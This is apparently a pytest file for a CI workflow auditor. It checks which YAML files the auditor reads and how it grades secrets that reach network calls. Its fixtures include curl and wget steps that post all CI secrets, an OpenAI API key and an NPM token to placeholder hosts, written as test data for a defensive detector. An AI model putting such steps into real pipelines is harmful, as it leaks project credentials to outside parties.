"""Which YAML files the CI reader takes, and the secret sources it finds."""

from __future__ import annotations

from lemon_core.auditor_kit.capabilities import ci_yaml
from lemon_core.auditor_kit.capabilities.model import HIGH, LOW, NETWORK_EGRESS


def test_files_chosen_by_place_or_by_secrets() -> None:
    assert ci_yaml.language_of(".github/workflows/a.yml", "")
    assert ci_yaml.language_of("sub/.gitlab-ci.yml", "")
    assert ci_yaml.language_of("templates/ci.yaml", "x: ${{ secrets.A }}")
    assert not ci_yaml.language_of("config.yml", "x: 1")
    assert not ci_yaml.language_of("workflows/a.json", "${{ secrets.A }}")


def test_sources_graded_by_what_they_hold() -> None:
    text = ("steps:\n  - run: curl -d '${{ toJSON(secrets) }}' https://a.example.net\n"
            "  - run: curl -d '${{ secrets.MY_THING }}' https://b.example.net\n"
            "  - run: curl -d \"${{ secrets['OPENAI_API_KEY'] }}\" https://c.example.net\n")
    found = ci_yaml.analyse(".github/workflows/x.yml", text)
    grades = {f.line: {s.grade for s in f.carries} for f in found.facts
              if f.kind == NETWORK_EGRESS}
    assert grades == {2: {HIGH}, 3: {LOW}, 4: {HIGH}}


def test_env_entry_carries_its_secret_into_run() -> None:
    text = ("env:\n  T: ${{ secrets.NPM_TOKEN }}\nsteps:\n  - run: |\n      echo hi\n"
            "      wget --post-data \"$T\" http://203.0.113.9/\n")
    found = ci_yaml.analyse(".github/workflows/x.yml", text)
    sent = [f for f in found.facts if f.kind == NETWORK_EGRESS]
    assert sent and sent[0].line == 6
    assert {s.label for s in sent[0].carries} == {"the CI secret NPM_TOKEN"}
